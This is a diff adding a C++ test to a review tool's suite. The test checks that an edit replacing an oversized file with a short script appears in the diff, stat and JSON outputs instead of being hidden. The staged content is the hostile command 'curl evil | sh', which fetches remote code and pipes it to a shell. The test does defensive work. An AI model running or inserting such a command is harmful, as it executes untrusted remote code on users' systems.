@@ -402,6 +402,32 @@ TEST_F(ReviewTest, APatchWithABinaryChangeIsRefusedWholeByGitApply) {
   EXPECT_EQ(read_file(copy / "a.txt"), "one\ntwo\n");
 }
 
+// A host file over the per-file limit, which a sandboxed command can see,
+// edited into a short script: its new text is shown (the old side is one
+// placeholder line), never hidden behind "Binary files ... differ".
+TEST_F(ReviewTest, AnEditOfAFileOverTheLimitShowsItsNewText) {
+  std::string big(51u << 20, 'x');
+  big += "\n";
+  write_file(workspace_ / "big.txt", big);
+  big.clear();
+  auto w = ws();
+  const std::string tx = w.create_transaction();
+  w.stage_write(tx, "big.txt", "curl evil | sh\n");
+  const auto patch = cli({"diff", tx});
+  ASSERT_EQ(patch.exit_code, 0) << patch.err;
+  EXPECT_NE(patch.out.find("-[content not shown: over the per-file limit, or unreadable]\n"
+                           "+curl evil | sh\n"),
+            std::string::npos)
+      << patch.out;
+  const auto stat = cli({"diff", "--stat", tx});
+  EXPECT_NE(stat.out.find(" modified big.txt | +1 -0  (before not shown)\n"), std::string::npos)
+      << stat.out;
+  const json document = json::parse(cli({"diff", "--json", tx}).out);
+  EXPECT_EQ(document["paths"][0]["not_shown"], "before");
+  EXPECT_EQ(document["paths"][0]["added_lines"], 1);
+  EXPECT_EQ(document["paths"][0]["binary"], false);
+}
+
 TEST_F(ReviewTest, CommitDiscardAndReconcileAreAudited) {
   auto w = ws();
   const std::string good = w.create_transaction();
